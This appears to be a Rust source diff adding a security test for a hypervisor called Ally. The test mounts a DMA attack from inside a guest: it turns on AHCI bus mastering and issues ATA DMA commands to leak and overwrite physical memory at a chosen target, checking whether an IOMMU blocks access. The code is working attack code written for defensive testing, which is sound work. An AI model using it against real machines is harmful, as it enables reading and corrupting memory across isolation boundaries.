@@ -1,0 +1,421 @@
+//! Issue 14's DMA attack: the guest programs a bus master, the q35 machine's ICH9 AHCI
+//! controller (no kernel driver owns it: the guest runs from its initramfs), to read and write
+//! physical memory it does not own. Without an IOMMU the device reaches any address, Ally's
+//! hidden region included; with one, Ally's DMA domain must refuse it and log the fault.
+//!
+//! Steps, each one ATA command on port 0 (the disk), on LBAs in the disk's last MiB only (the
+//! guest's boot files lie at its start):
+//!
+//! 1. control: WRITE DMA EXT of a pattern from the attacker's own page to a scratch sector and
+//!    READ DMA EXT of it back into the page; they must match (the DMA path works).
+//! 2. leak: a zeroed scratch sector, then WRITE DMA EXT from the target address T to it, then
+//!    READ DMA EXT of it into the page: non-zero bytes came from T.
+//! 3. overwrite: a pattern sector, then READ DMA EXT of it into T.
+//!
+//! Marker: `ALLYTEST attack-dma INFO ahci=00:1f.2 ... target=0x.. control=ok leak_status=..
+//! leak_bytes_nonzero=N leak_digest=.. overwrite_status=.. errors=..`.
+
+use crate::ahci::{self, layout, AtaCommand, Completion, Port, SECTOR};
+use crate::marker::Marker;
+use crate::pci;
+use crate::sys::{self, PhysMap, PAGE};
+
+/// Sectors at the end of the disk the attack may use: its last MiB.
+const SCRATCH_SECTORS: u64 = (1 << 20) / SECTOR as u64;
+/// The sectors it does use, counted back from the last: control, leak, overwrite source.
+const CONTROL_FROM_END: u64 = 1;
+const LEAK_FROM_END: u64 = 2;
+const OVERWRITE_FROM_END: u64 = 3;
+
+/// PCI command register (config offset 04h): memory space and bus master enable (PCI Local
+/// Bus 3.0, 6.2.2).
+const PCI_COMMAND: u64 = 0x04;
+const COMMAND_MEMORY: u16 = 1 << 1;
+const COMMAND_BUS_MASTER: u16 = 1 << 2;
+
+/// The first page above the highest top-level `System RAM` range below 4 GiB of `/proc/iomem`
+/// (as root, which sees the addresses): where Ally's region starts, cut from the guest's E820.
+pub fn iomem_target(iomem: &str) -> Option<u64> {
+    iomem
+        .lines()
+        // Nested resources are indented; the RAM ranges are top-level.
+        .filter(|l| !l.starts_with(' '))
+        .filter_map(|l| {
+            let (range, name) = l.split_once(" : ")?;
+            (name.trim() == "System RAM").then_some(())?;
+            let (start, end) = range.split_once('-')?;
+            let start = u64::from_str_radix(start.trim(), 16).ok()?;
+            let end = u64::from_str_radix(end.trim(), 16).ok()?;
+            (end < 1 << 32 && end > start).then_some(end)
+        })
+        .max()
+        .map(|end| (end + 1).next_multiple_of(PAGE as u64))
+}
+
+/// A sector's worth of a recognisable pattern: `tag` and the LBA, repeated.
+pub fn pattern(tag: &str, lba: u64) -> Vec<u8> {
+    format!("{tag}-{lba:08x}-")
+        .bytes()
+        .cycle()
+        .take(SECTOR)
+        .collect()
+}
+
+/// FNV-1a (64-bit) of `data`, as 16 hex digits: a short digest to compare leaks by.
+pub fn digest(data: &[u8]) -> String {
+    let h = data.iter().fold(0xcbf2_9ce4_8422_2325u64, |h, &b| {
+        (h ^ u64::from(b)).wrapping_mul(0x0000_0100_0000_01b3)
+    });
+    format!("{h:016x}")
+}
+
+/// The first `n` bytes as hex.
+pub fn hex_head(data: &[u8], n: usize) -> String {
+    data.iter().take(n).map(|b| format!("{b:02x}")).collect()
+}
+
+/// The scratch LBAs on a disk of `sectors`, or `None` when it has no spare last MiB (a disk of
+/// at least 2 MiB).
+pub fn scratch_lbas(sectors: u64) -> Option<[u64; 3]> {
+    (sectors >= 2 * SCRATCH_SECTORS)
+        .then(|| [CONTROL_FROM_END, LEAK_FROM_END, OVERWRITE_FROM_END].map(|back| sectors - back))
+}
+
+/// The failed steps: `step:status:registers` each, `,`-joined; `none` without any.
+#[derive(Debug, Default)]
+struct Errors(Vec<String>);
+
+impl Errors {
+    /// Records `c` when it failed; returns it.
+    fn note(&mut self, step: &str, c: Completion) -> Completion {
+        if !c.ok() {
+            self.0
+                .push(format!("{step}:{}:{}", c.status(), c.registers()));
+        }
+        c
+    }
+
+    fn word(&self) -> String {
+        if self.0.is_empty() {
+            "none".into()
+        } else {
+            self.0.join(",")
+        }
+    }
+}
+
+/// The attack on one opened port: fills the marker, step by step.
+struct Attack<'p, 'a> {
+    port: &'p Port<'a>,
+    errors: Errors,
+}
+
+impl Attack<'_, '_> {
+    fn buffer(&self, offset: usize) -> u64 {
+        self.port.phys(offset)
+    }
+
+    fn fill(&self, offset: usize, data: &[u8]) {
+        self.port.page().bytes()[offset..offset + data.len()].copy_from_slice(data);
+    }
+
+    fn run(&mut self, step: &str, command: AtaCommand, lba: u64, data: u64) -> Completion {
+        let c = self.port.command(command, lba, 1, data);
+        self.errors.note(step, c)
+    }
+
+    /// IDENTIFY DEVICE: the disk's sectors.
+    fn sectors(&mut self) -> Result<u64, String> {
+        self.fill(layout::BUFFER_A, &[0; SECTOR]);
+        let c = self
+            .port
+            .command(AtaCommand::Identify, 0, 0, self.buffer(layout::BUFFER_A));
+        if !c.ok() {
+            return Err(format!("identify_{}_{}", c.status(), c.registers()));
+        }
+        ahci::identify_sectors(&self.port.read_buffer(layout::BUFFER_A, SECTOR))
+            .ok_or_else(|| "identify_no_sector_count".to_string())
+    }
+
+    /// Step 1: a pattern written from and read back into the attacker's own page.
+    fn control(&mut self, m: &mut Marker, lba: u64) -> bool {
+        let expect = pattern("ALLY-DMA-CONTROL", lba);
+        self.fill(layout::BUFFER_A, &expect);
+        self.fill(layout::BUFFER_B, &[0; SECTOR]);
+        let w = self.run(
+            "control_write",
+            AtaCommand::WriteDmaExt,
+            lba,
+            self.buffer(layout::BUFFER_A),
+        );
+        let r = self.run(
+            "control_read",
+            AtaCommand::ReadDmaExt,
+            lba,
+            self.buffer(layout::BUFFER_B),
+        );
+        let back = self.port.read_buffer(layout::BUFFER_B, SECTOR);
+        let verdict = if !w.ok() {
+            format!("write_{}", w.status())
+        } else if !r.ok() {
+            format!("read_{}", r.status())
+        } else if back != expect {
+            "mismatch".into()
+        } else {
+            "ok".into()
+        };
+        m.field("control", &verdict)
+            .field("control_bytes", r.bytes());
+        verdict == "ok"
+    }
+
+    /// Step 2: the device reads `target` onto a zeroed sector, which comes back into the page.
+    fn leak(&mut self, m: &mut Marker, lba: u64, target: u64) {
+        self.fill(layout::BUFFER_A, &[0; SECTOR]);
+        let zeroed = self.run(
+            "leak_zero",
+            AtaCommand::WriteDmaExt,
+            lba,
+            self.buffer(layout::BUFFER_A),
+        );
+        let leak = self.run("leak", AtaCommand::WriteDmaExt, lba, target);
+        self.fill(layout::BUFFER_B, &[0xff; SECTOR]);
+        let back = self.run(
+            "leak_readback",
+            AtaCommand::ReadDmaExt,
+            lba,
+            self.buffer(layout::BUFFER_B),
+        );
+        m.field("leak_status", leak.status())
+            .field("leak_bytes", leak.bytes());
+        if !zeroed.ok() || !back.ok() {
+            // Without a zeroed sector read back, what is there proves nothing.
+            m.field(
+                "leak_readback",
+                format!("{}/{}", zeroed.status(), back.status()),
+            );
+            return;
+        }
+        let data = self.port.read_buffer(layout::BUFFER_B, SECTOR);
+        m.field(
+            "leak_bytes_nonzero",
+            data.iter().filter(|&&b| b != 0).count(),
+        )
+        .field("leak_digest", digest(&data))
+        .field("leak_head", hex_head(&data, 16));
+    }
+
+    /// Step 3: a pattern sector read by the device into `target`.
+    fn overwrite(&mut self, m: &mut Marker, lba: u64, target: u64) {
+        self.fill(layout::BUFFER_A, &pattern("ALLY-DMA-OVERWRITE", lba));
+        let source = self.run(
+            "overwrite_source",
+            AtaCommand::WriteDmaExt,
+            lba,
+            self.buffer(layout::BUFFER_A),
+        );
+        if !source.ok() {
+            m.field("overwrite_status", format!("source_{}", source.status()));
+            return;
+        }
+        let w = self.run("overwrite", AtaCommand::ReadDmaExt, lba, target);
+        m.field("overwrite_status", w.status())
+            .field("overwrite_bytes", w.bytes());
+    }
+}
+
+/// The AHCI controller's ABAR, mapped through its sysfs resource file.
+fn map_abar(name: &str) -> Result<(u64, PhysMap), String> {
+    let dir = format!("{}/{name}", pci::SYSFS_DEVICES);
+    let resources =
+        std::fs::read_to_string(format!("{dir}/resource")).map_err(|e| format!("resource:{e}"))?;
+    let (start, end) = pci::resource_range(&resources, ahci::ABAR_BAR)
+        .filter(|&(s, e)| s != 0 && e > s)
+        .ok_or("no_abar")?;
+    let len = usize::try_from(end - start + 1)
+        .map_err(|_| "abar_too_big")?
+        .next_multiple_of(PAGE);
+    let map = PhysMap::open(&format!("{dir}/resource{}", ahci::ABAR_BAR), 0, len)
+        .map_err(|e| e.to_string())?;
+    Ok((start, map))
+}
+
+/// Turns on memory decoding and bus mastering; returns the command register as it was.
+fn enable_bus_master(config: &str) -> Result<u16, String> {
+    let before = sys::pread_u32(config, PCI_COMMAND).map_err(|e| e.to_string())? as u16;
+    let want = before | COMMAND_MEMORY | COMMAND_BUS_MASTER;
+    if want != before {
+        sys::pwrite(config, PCI_COMMAND, &want.to_le_bytes()).map_err(|e| e.to_string())?;
+    }
+    Ok(before)
+}
+
+/// Where the attack aims: `--target`, else the first page above the guest's RAM below 4 GiB.
+fn target(given: Option<u64>) -> Result<(u64, &'static str), String> {
+    if let Some(t) = given {
+        return Ok((t, "argument"));
+    }
+    let iomem = std::fs::read_to_string("/proc/iomem").map_err(|e| format!("iomem:{e}"))?;
+    iomem_target(&iomem)
+        .map(|t| (t, "iomem"))
+        .ok_or_else(|| "no_system_ram_below_4GiB".into())
+}
+
+/// The DMA attack (see the module's documentation). `skipped=no_ahci` where the machine has
+/// no AHCI controller (the `pc` machine and Bochs have IDE).
+pub fn dma(given_target: Option<u64>) -> Marker {
+    let mut m = Marker::new("attack-dma");
+    let Some(name) = pci::find_class(ahci::CLASS_AHCI) else {
+        m.field("skipped", "no_ahci");
+        return m;
+    };
+    m.field("ahci", pci::short_bdf(&name));
+    let (target, from) = match target(given_target) {
+        Ok(t) => t,
+        Err(e) => {
+            m.field("error", e);
+            return m;
+        }
+    };
+    m.hex("target", target).field("target_from", from);
+    let config = format!("{}/{name}/config", pci::SYSFS_DEVICES);
+    let command_before = match enable_bus_master(&config) {
+        Ok(c) => c,
+        Err(e) => {
+            m.field("error", e);
+            return m;
+        }
+    };
+    m.hex("pci_command", command_before.into());
+    match map_abar(&name) {
+        Ok((abar, map)) => {
+            m.hex("abar", abar);
+            attack_port(&mut m, &map, target);
+            m.field("port_stopped", u8::from(ahci::port_idle(&map, 0)));
+        }
+        Err(e) => {
+            m.field("error", e);
+        }
+    }
+    // Bus mastering back as it was: the port is stopped and points at the firmware's memory.
+    if let Err(e) = sys::pwrite(&config, PCI_COMMAND, &command_before.to_le_bytes()) {
+        m.field("pci_command_restore", e);
+    }
+    m
+}
+
+/// Opens port 0, runs the three steps, and stops the port again (`Port`'s drop).
+fn attack_port(m: &mut Marker, abar: &PhysMap, target: u64) {
+    let port = match Port::open(abar, 0) {
+        Ok(p) => p,
+        Err(e) => {
+            m.field("error", e);
+            return;
+        }
+    };
+    let mut a = Attack {
+        port: &port,
+        errors: Errors::default(),
+    };
+    let sectors = match a.sectors() {
+        Ok(n) => n,
+        Err(e) => {
+            m.field("error", e);
+            return;
+        }
+    };
+    m.field("sectors", sectors);
+    let Some([control, leak, overwrite]) = scratch_lbas(sectors) else {
+        m.field("error", format_args!("disk_too_small_{sectors}"));
+        return;
+    };
+    m.field("scratch_lba", overwrite);
+    if a.control(m, control) {
+        a.leak(m, leak, target);
+        a.overwrite(m, overwrite, target);
+    } else {
+        m.field("leak_status", "not_run")
+            .field("overwrite_status", "not_run");
+    }
+    m.field("errors", a.errors.word());
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    /// /proc/iomem of the q35 guest under Ally (1 GiB, Ally's region from 0x38600000).
+    const IOMEM: &str = "00000000-00000fff : Reserved
+00001000-0009dfff : System RAM
+0009fc00-0009ffff : Reserved
+000f0000-000fffff : Reserved
+  000f0000-000fffff : System ROM
+00100000-385fffff : System RAM
+  01000000-01c00fff : Kernel code
+3ffdf000-3fffffff : Reserved
+b0000000-bfffffff : PCI MMCONFIG 0000 [bus 00-ff]
+fd00000000-ffffffffff : Reserved
+100000000-13fffffff : System RAM
+";
+
+    #[test]
+    fn the_target_is_the_page_above_the_highest_ram_below_4_gib() {
+        assert_eq!(iomem_target(IOMEM), Some(0x3860_0000));
+        // An end that is not page-aligned rounds up.
+        assert_eq!(
+            iomem_target("00100000-3ffdefff : System RAM\n"),
+            Some(0x3ffd_f000)
+        );
+        assert_eq!(
+            iomem_target("00100000-00107ffe : System RAM\n"),
+            Some(0x10_8000)
+        );
+        // Nested and non-RAM ranges are ignored; RAM above 4 GiB too.
+        assert_eq!(iomem_target("  00100000-385fffff : System RAM\n"), None);
+        assert_eq!(iomem_target("100000000-13fffffff : System RAM\n"), None);
+        assert_eq!(iomem_target(""), None);
+    }
+
+    #[test]
+    fn scratch_sectors_lie_in_the_last_mib() {
+        let n = 131_072; // 64 MiB
+        let lbas = scratch_lbas(n).unwrap();
+        assert_eq!(lbas, [n - 1, n - 2, n - 3]);
+        assert!(lbas.iter().all(|&l| l >= n - SCRATCH_SECTORS && l < n));
+        assert_eq!(scratch_lbas(2 * SCRATCH_SECTORS - 1), None);
+    }
+
+    #[test]
+    fn patterns_digests_and_heads() {
+        let p = pattern("ALLY-DMA-CONTROL", 0x1ffff);
+        assert_eq!(p.len(), SECTOR);
+        assert!(p.starts_with(b"ALLY-DMA-CONTROL-0001ffff-ALLY"));
+        assert_ne!(p, pattern("ALLY-DMA-CONTROL", 0x1fffe));
+        // FNV-1a's offset basis for no data, and its published value for "a".
+        assert_eq!(digest(b""), "cbf29ce484222325");
+        assert_eq!(digest(b"a"), "af63dc4c8601ec8c");
+        assert_eq!(hex_head(&[0xd6, 0x50, 0x52, 0xe8, 0], 4), "d65052e8");
+    }
+
+    #[test]
+    fn errors_list_failed_steps_only() {
+        let mut e = Errors::default();
+        e.note(
+            "control_write",
+            Completion::Done {
+                bytes: 512,
+                tfd: 0x50,
+            },
+        );
+        assert_eq!(e.word(), "none");
+        e.note(
+            "leak",
+            Completion::Error {
+                is: ahci::IS_HBFS,
+                tfd: 0x50,
+                bytes: 0,
+            },
+        );
+        assert_eq!(e.word(), "leak:hbfs:is=0x20000000:tfd=0x50");
+    }
+}
